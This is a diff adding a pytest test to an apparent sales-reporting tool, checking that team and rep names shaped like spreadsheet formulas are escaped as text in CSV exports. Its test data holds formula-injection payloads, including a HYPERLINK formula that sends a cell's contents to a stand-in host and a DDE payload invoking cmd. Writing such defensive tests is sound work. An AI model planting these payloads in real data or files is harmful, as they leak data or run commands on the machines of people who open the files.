@@ -152,3 +152,26 @@ def test_a_month_with_no_data_is_all_zeros_and_bad_choices_are_refused(org):
         build_report(month_facts(ds, MONTH), "region", "day")
     with pytest.raises(ValueError, match="--grain"):
         build_report(month_facts(ds, MONTH), "team", "hour")
+
+
+def test_names_from_the_crm_are_never_formulas_in_the_csv(tmp_path):
+    """A team or rep named like a spreadsheet formula is text in the CSV (a leading apostrophe)."""
+    import csv
+    import io
+
+    cat = load_catalog(None)
+    folder = tmp_path / "org"
+    write_org(generate_org(cat.pipeline, reps=12, months=2, seed=3, end=MONTH), folder)
+    reps = pd.read_csv(folder / "reps.csv", dtype=str, keep_default_na=False)
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
+    first_team = reps["team"].iloc[0]
+    reps.loc[reps["team"] == first_team, "team"] = evil[0]
+    reps.loc[0, "name"], reps.loc[1, "name"], reps.loc[2, "name"] = evil[1:]
+    reps.to_csv(folder / "reps.csv", index=False)
+    ds = load_dataset(folder, cat.pipeline)
+    for by in ("team", "rep"):
+        rows = list(csv.DictReader(io.StringIO(build_report(month_facts(ds, MONTH), by=by, grain="month").to_csv())))
+        names = {r["name"] for r in rows} | {r["key"] for r in rows}
+        assert not [n for n in names if n[:1] in ("=", "+", "-", "@")], by
+        shown = {n[1:] for n in names if n.startswith("'")}
+        assert (evil[0] in shown) if by == "team" else set(evil[1:]) <= shown
